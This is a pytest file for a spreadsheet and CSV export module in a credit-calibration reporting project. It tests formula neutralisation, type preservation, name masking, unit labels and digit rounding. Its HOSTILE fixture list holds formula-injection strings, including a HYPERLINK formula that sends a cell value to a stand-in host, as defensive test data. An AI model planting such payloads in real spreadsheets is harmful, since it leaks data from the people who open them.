"""Side files: formulas neutralised per OWASP, numbers kept numeric, personal data masked.

The tests parse the written workbook and CSV back.
"""
from __future__ import annotations

import csv

import pandas as pd
from openpyxl import load_workbook

from calib.report import excel

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"village": HOSTILE, "name": ["=张三", "+李四", "-王五", "@赵六", "\t钱七", "\r孙八"],
                         "amount": [-1500.0, 2.5, 0, -3, 1e6, 7], "n": [1, -2, 3, 4, 5, 6]})


def test_xlsx_has_no_live_formula_and_numbers_stay_numeric(tmp_path):
    path = excel.write_xlsx({"list": _frame()}, tmp_path / "x.xlsx")
    ws = load_workbook(path)["list"]
    rows = list(ws.iter_rows(min_row=2, values_only=False))
    for row in rows:
        for c in row:
            assert c.data_type != "f"
            if isinstance(c.value, str):
                assert not c.value.startswith(excel.FORMULA_PREFIXES), c.value
    assert [r[2].value for r in rows] == [-1500, 2.5, 0, -3, 1e6, 7]
    assert all(r[2].data_type == "n" and r[3].data_type == "n" for r in rows)
    names = [r[1].value for r in rows]
    assert "'=张三" not in names and all("*" in n for n in names)  # masked and neutralised


def test_csv_cells_are_neutralised(tmp_path):
    path = excel.write_csv(_frame(), tmp_path / "x.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        assert not row[0].startswith(excel.FORMULA_PREFIXES)
        assert row[0].startswith("'")
    assert [float(r[2]) for r in rows[1:]] == [-1500.0, 2.5, 0, -3, 1e6, 7]


def test_neutralise_leaves_plain_text_and_numbers():
    assert excel.neutralise("张村") == "张村" and excel.neutralise(-3) == -3
    assert excel.neutralise("=1") == "'=1"


def test_count_rows_for_the_index(tmp_path):
    excel.write_xlsx({"a": _frame(), "b": _frame().head(2)}, tmp_path / "x.xlsx")
    excel.write_csv(_frame(), tmp_path / "x.csv")
    assert excel.count_rows(tmp_path / "x.xlsx") == 8
    assert excel.count_rows(tmp_path / "x.csv") == 6  # a carriage return inside a quoted cell is not a row


def test_labels_put_coded_values_in_words_as_the_page_does(tmp_path):
    from calib.report.labels import set_lang

    set_lang("zh-CN")
    df = pd.DataFrame({"village": ["上井村", "pass", "上岩村"], "profiling_rate": ["pass", "fail", "no data"],
                       "household_id": ["H0010001", "H0010002", None], "n": [1, 2, 3]})
    ws = load_workbook(excel.write_xlsx(df, tmp_path / "v.xlsx", labels=True)).active
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert [r[1] for r in rows] == ["通过", "未通过", "无数据"]
    # as the page shows the column (one rule, labels.coded_words): a value spelling a code is in words
    assert [r[0] for r in rows] == ["上井村", "通过", "上岩村"]
    assert [r[2] for r in rows] == ["H0010001", "H0010002", None] and [r[3] for r in rows] == [1, 2, 3]
    raw = load_workbook(excel.write_xlsx(df, tmp_path / "r.xlsx")).active
    assert [c.value for c in next(raw.iter_rows(min_row=2))][1] == "pass"   # without labels: the codes


def test_pages_and_workbooks_translate_codes_by_one_rule(tmp_path):
    """What the page shows in words the workbook holds in words: verdicts, the total row's
    label in a column of names, bin bounds with infinities (a Chinese workbook once kept
    'overall' and '[-inf, 570.19)' where its page said 全部 and [−∞, 570.19))."""
    import pandas as pd

    from calib.report import display, excel, labels

    labels.set_lang("zh-CN")
    df = pd.DataFrame({"village": ["东村", "西村", "南村", "overall"], "verdict": ["pass", "fail", "no data", "pass"],
                       "bin": ["[-inf, 2)", "[2, 4)", "[4, inf)", "Missing"]})
    page = display.table(df, max_rows=None)._repr_html_()
    path = excel.write_xlsx({"t": df}, tmp_path / "t.xlsx", labels=True)
    sheet = next(iter(pd.read_excel(path, sheet_name=None, engine="openpyxl").values()))
    for i, col in enumerate(df.columns):
        cells = sheet.iloc[:, i].tolist()
        assert cells == labels.coded_words(df[col]).tolist()
        assert all(f">{c}<" in page for c in cells), (col, cells)
    assert sheet.iloc[3, 0] == "全部" and sheet.iloc[0, 1] == "通过" and "−∞" in sheet.iloc[0, 2]
    assert "overall" not in page and "inf" not in page


def test_sheet_names_in_the_readers_words(tmp_path):
    """A workbook written for readers names its sheets in their language (the tab is the first
    thing Excel shows); a sheet the catalogue does not know keeps its name."""
    from openpyxl import load_workbook

    from calib.report import excel, labels

    labels.set_lang("zh-CN")
    df = pd.DataFrame({"village": ["东村"]})
    path = excel.write_xlsx({"figures": df, "village_verdicts": df, "其他": df}, tmp_path / "v.xlsx", labels=True)
    assert load_workbook(path).sheetnames == ["指标", "信用村认定", "其他"]
    assert load_workbook(excel.write_xlsx(df, tmp_path / "one.xlsx", labels=True)).sheetnames == ["数据"]
    assert load_workbook(excel.write_xlsx(df, tmp_path / "raw.xlsx")).sheetnames == ["data"]  # code names


def test_a_table_longer_than_a_sheet_goes_on_in_continuation_sheets(tmp_path, monkeypatch):
    """Excel holds 1,048,576 rows a sheet: a province's investigation list can be longer. Every
    row is written, each continuation sheet with the header, and the index counts them all."""
    from openpyxl import load_workbook

    from calib.report import excel, labels

    labels.set_lang("zh-CN")
    assert excel.SHEET_ROWS == 1_048_576 - 1  # Excel's rows a sheet, less the header
    monkeypatch.setattr(excel, "SHEET_ROWS", 3)
    monkeypatch.setattr(excel, "_BLOCK_ROWS", 2)  # blocks of rows that straddle the sheets' ends
    df = pd.DataFrame({"village": [f"村{i}" for i in range(7)], "n": range(7)})
    path = excel.write_xlsx(df, tmp_path / "long.xlsx", labels=True)
    wb = load_workbook(path)
    assert wb.sheetnames == ["数据", "数据 (2)", "数据 (3)"]
    rows = [list(ws.iter_rows(values_only=True)) for ws in wb.worksheets]
    assert [len(r) - 1 for r in rows] == [3, 3, 1] and len({r[0] for r in rows}) == 1  # the header each time
    assert [r[1] for sheet in rows for r in sheet[1:]] == list(range(7))
    assert excel.count_rows(path) == 7
    long_name = "x" * 40
    assert all(len(n) <= 31 for n in load_workbook(excel.write_xlsx({long_name: df}, tmp_path / "n.xlsx")).sheetnames)


def test_every_cell_keeps_its_type_and_no_text_becomes_a_formula(tmp_path):
    """Text stays text (a formula prefix neutralised, an Excel error word such as #N/A or a
    URL written as a string), numbers and dates keep their types, a missing value is blank;
    a sheet name Excel forbids is made valid and unique."""
    from openpyxl import load_workbook

    from calib.report import excel

    df = pd.DataFrame({"text": ["=1+2", "#N/A", "http://x.example", "0012"],
                       "n": [1.5, float("nan"), 3, float("inf")], "ok": [True, False, True, False],
                       "day": pd.to_datetime(["2026-06-30", "2026-01-02 10:30", None, "2025-12-31"], format="ISO8601")})
    path = excel.write_xlsx({"a/b:c": df, "A/B:C": df}, tmp_path / "t.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["a_b_c", "A_B_C (2)"]
    ws = wb.worksheets[0]
    cells = [[c for c in row] for row in ws.iter_rows(min_row=2)]
    assert [r[0].value for r in cells] == ["'=1+2", "#N/A", "http://x.example", "0012"]
    assert all(r[0].data_type == "s" for r in cells) and all(not r[0].hyperlink for r in cells)
    assert [r[1].value for r in cells] == [1.5, None, 3, None]
    assert [r[2].value for r in cells] == [True, False, True, False]
    assert cells[0][3].value.date().isoformat() == "2026-06-30" and cells[0][3].number_format == "yyyy-mm-dd"
    assert cells[1][3].number_format == "yyyy-mm-dd hh:mm:ss" and cells[2][3].value is None


def test_a_text_longer_than_a_cell_is_cut_visibly(tmp_path):
    """Excel holds 32,767 characters a cell (a longer one makes the file unreadable, or is cut
    without a word): the cut says so, with the text's length."""
    from openpyxl import load_workbook

    from calib.report import excel

    path = excel.write_xlsx(pd.DataFrame({"value": ["x" * 40_000, "short"]}), tmp_path / "long.xlsx")
    cells = [r[0] for r in load_workbook(path).worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert len(cells[0]) == excel.CELL_CHARS == 32_767 and cells[0].endswith("[40,000 characters; cut to Excel's 32,767]")
    assert cells[1] == "short"


def _long_runs(text: str) -> list[str]:
    """Digit runs with more than 10 significant digits (what a leak scan could take for a phone
    or part of an ID number)."""
    import re

    return [m for m in re.findall(r"\d+", text) if len(m.lstrip("0")) > 10]


def test_figures_are_written_with_at_most_ten_significant_digits(tmp_path):
    """A province's workbooks held millions of 16-digit fractions, two of whose 11-digit windows
    equalled a villager's phone number by chance (check_bundle on a 300k-household run)."""
    import zipfile

    import numpy as np

    from calib.masking import round_figures

    rng = np.random.default_rng(7)
    x = rng.random(3000) * 10.0 ** rng.integers(-15, 9, 3000)
    x[:3] = [1.151251993476588, 0.08132702391999999 + 1e-17, 7323566123.25]  # the last keeps its fen
    frame = pd.DataFrame({"x": x, "y": pd.array(list(rng.random(2999)) + [None], dtype="Float64")})
    assert _long_runs(frame.to_csv())  # the trap: full precision has such runs
    path = excel.write_xlsx(frame, tmp_path / "f.xlsx")
    with zipfile.ZipFile(path) as z:
        xml = " ".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert _long_runs(xml) == []
    got = [r[0] for r in load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    assert np.array_equal(np.array(got, dtype=float), round_figures(x))  # the same doubles
    assert got[:3] == [1.151251993, 0.08132702392, 7323566123.25]
    np.testing.assert_allclose(got, x, rtol=5e-10)
    assert _long_runs((excel.write_csv(frame, tmp_path / "f.csv")).read_text("utf-8-sig")) == []


def test_figures_in_a_column_of_words_and_figures_are_rounded_alike(tmp_path):
    """A column holding words beside figures (object dtype) gets the same rounding: its float
    cells too would carry 16-digit runs."""
    import zipfile

    import numpy as np

    mixed = pd.DataFrame({"m": ["全县", 1.151251993476588, np.float64(0.26684560019273623), 7, None, True]})
    assert _long_runs(mixed.to_csv())
    path = excel.write_xlsx(mixed, tmp_path / "m.xlsx")
    with zipfile.ZipFile(path) as z:
        xml = " ".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert _long_runs(xml) == []
    got = [r[0] for r in load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    assert got[:4] == ["全县", 1.151251993, 0.2668456002, 7] and got[5] is True
    assert _long_runs(excel.write_csv(mixed, tmp_path / "m.csv").read_text("utf-8-sig")) == []


def test_recorded_figures_have_at_most_ten_significant_digits():
    from calib.report.record import _plain

    assert _plain(0.26684560019273623) == 0.2668456002
    assert _plain({"a": [0.03743986908742083, 2]}) == {"a": [0.03743986909, 2]}
    assert _plain(float("nan")) is None and _plain(3) == 3


def test_typed_columns_are_written_as_cell_by_cell_typing_writes_them(tmp_path):
    """Columns of floats, integers, booleans and text go to XlsxWriter's typed methods at once;
    the workbook's sheet is byte for byte the one the per-cell typing (excel._write) writes."""
    import zipfile

    import numpy as np
    import xlsxwriter

    frame = pd.DataFrame({
        "f": [1.5, np.nan, np.inf, -0.1234567890123, 2.0],
        "F": pd.array([0.25, None, 3.0, 1e-12, -7.0], dtype="Float64"),
        "i": np.array([1, -2, 3, 0, 2**40], dtype=np.int64),
        "I": pd.array([1, None, 3, 4, 5], dtype="Int64"),
        "b": [True, False, True, True, False],
        "s": pd.array(["东村", None, "", "=1+1", "a" * 40], dtype="string[pyarrow]"),
        "o": ["x", 1, 2.5, None, pd.Timestamp("2025-01-02")],
        "d": pd.to_datetime(["2025-01-01", None, "2025-03-04 05:06:07", "2025-01-01", "2024-12-31"], format="mixed"),
    })
    new = excel.write_xlsx(frame, tmp_path / "new.xlsx")
    out = excel._prepare(frame, None, False)
    ref = tmp_path / "ref.xlsx"
    wb = xlsxwriter.Workbook(str(ref), {"constant_memory": True, "strings_to_formulas": False,
                                        "strings_to_urls": False, "strings_to_numbers": False})
    formats = {"date": wb.add_format({"num_format": "yyyy-mm-dd"}),
               "datetime": wb.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})}
    ws = wb.add_worksheet("data")
    for j, c in enumerate(out.columns):
        ws.write_string(0, j, str(c))
    for r, row in enumerate(zip(*[out.iloc[:, i].to_numpy(dtype=object) for i in range(out.shape[1])]), start=1):
        for j, v in enumerate(row):
            excel._write(ws, r, j, v, formats)
    wb.close()

    def sheet(p):
        with zipfile.ZipFile(p) as z:
            return z.read("xl/worksheets/sheet1.xml")

    assert sheet(new) == sheet(ref)
    got = [r for r in load_workbook(new).active.iter_rows(min_row=2, values_only=True)]
    assert got[0][:6] == (1.5, 0.25, 1, 1, True, "东村") and got[1][0] is None and got[2][0] is None
    assert got[3][5] == "'=1+1"  # neutralised text stays text


def test_a_workbook_gives_figures_in_the_units_and_forms_of_its_headers(tmp_path):
    """A labelled workbook's 万元 column holds 万元 (it held yuan under a （万元） header: 181,855,000
    read as 万元 is a thousand times the programme), shares show as percentages and counts with
    separators, and every cell keeps its value; the same frame's csv says the same."""
    from calib.report.labels import set_lang

    set_lang("zh-CN")
    df = pd.DataFrame({"village": ["上井村", "上岩村"], "households": [7077, 12],
                       "total_consensus": [181_855_000.0, 2_040_000.0],
                       "profiling_rate": [0.9730510106, 0.5], "profiling_rate_figure": [0.97, 0.5]})
    ws = load_workbook(excel.write_xlsx(df, tmp_path / "v.xlsx", labels=True)).active
    head = [c.value for c in ws[1]]
    assert head[2].endswith("（万元）")
    rows = list(ws.iter_rows(min_row=2))
    assert [r[2].value for r in rows] == [18_185.5, 204.0]
    assert [r[2].number_format for r in rows] == ["#,##0.00"] * 2
    assert rows[0][3].value == 0.9730510106 and rows[0][3].number_format == "0.0%"
    assert rows[0][4].number_format == "0.0%"  # a verdict table's measured share: its term's form
    assert rows[0][1].value == 7077 and rows[0][1].number_format == "#,##0"
    assert rows[0][0].number_format == "General"
    p = load_workbook(excel.write_xlsx(pd.DataFrame({"p_value": [4.3e-06, 0.2]}), tmp_path / "p.xlsx",
                                       labels=True)).active
    assert [c.value for c in p["A"][1:]] == [4.3e-06, 0.2]  # the value kept, "< 0.001" shown
    assert p["A2"].number_format == '[<0.001]"< 0.001";0.000'
    raw = load_workbook(excel.write_xlsx(df, tmp_path / "r.xlsx")).active  # no labels: code names, yuan
    assert [c.value for c in next(raw.iter_rows(min_row=2))][2] == 181_855_000
    csv = pd.read_csv(excel.write_csv(df, tmp_path / "v.csv", labels=True), encoding="utf-8-sig")
    assert csv.iloc[:, 2].tolist() == [18_185.5, 204.0]
    ints = pd.DataFrame({"households": pd.array([7077, None], dtype="Int64"), "rows_read": [3, 4]})
    cells = [[c.value for c in r] for r in load_workbook(
        excel.write_xlsx(ints, tmp_path / "i.xlsx", labels=True)).active.iter_rows(min_row=2)]
    assert cells == [[7077, 3], [None, 4]] and all(type(v) is int for v in cells[0])


def test_a_column_the_page_shows_in_yuan_is_in_yuan_in_the_workbook(tmp_path):
    """investigations.xlsx gave the exposure gap in 万元 (13.1) where report 03's list reads
    131,000 元: the workbook takes the page's kinds, one unit for one figure."""
    from calib.report.labels import set_lang

    set_lang("zh-CN")
    df = pd.DataFrame({"exposure_gap": [131000.0, 2500.0], "total_final": [150475000.0, 1.0]})
    ws = load_workbook(excel.write_xlsx(df, tmp_path / "y.xlsx", labels=True, kinds={"exposure_gap": "yuan"})).active
    head = [c.value for c in next(ws.iter_rows(max_row=1))]
    assert head == ["敞口差额（元）", "最终额度合计（万元）"]
    assert [c.value for c in next(ws.iter_rows(min_row=2, max_row=2))] == [131000, 15047.5]
    ws = load_workbook(excel.write_xlsx(df, tmp_path / "w.xlsx", labels=True)).active  # the catalogue's kind: 万元
    assert next(ws.iter_rows(max_row=1))[0].value == "敞口差额（万元）" and ws["A2"].value == 13.1


def test_row_positions_of_a_sorted_frame_are_not_a_column(tmp_path):
    """A frame sorted for the page (the villages ranked) keeps its old row positions as an
    unnamed index: the workbooks of report 02's villages had an 'index' column of them. A
    named index (the village) is a column; row positions are not."""
    from openpyxl import load_workbook

    from calib.report import excel

    df = pd.DataFrame({"village": ["东村", "西村", "南村"], "icc_ak": [0.9, 0.5, 0.7]})
    ranked = df.sort_values("icc_ak")
    sheet = load_workbook(excel.write_xlsx(ranked, tmp_path / "r.xlsx")).active
    assert [c.value for c in sheet[1]] == ["village", "icc_ak"] and sheet["A2"].value == "西村"
    named = load_workbook(excel.write_xlsx(df.set_index("village"), tmp_path / "n.xlsx")).active
    assert [c.value for c in named[1]] == ["village", "icc_ak"]
    keyed = df.set_index(pd.Index(["a", "b", "c"]))  # an unnamed index of words: kept
    assert [c.value for c in load_workbook(excel.write_xlsx(keyed, tmp_path / "k.xlsx")).active[1]] == ["index", "village", "icc_ak"]
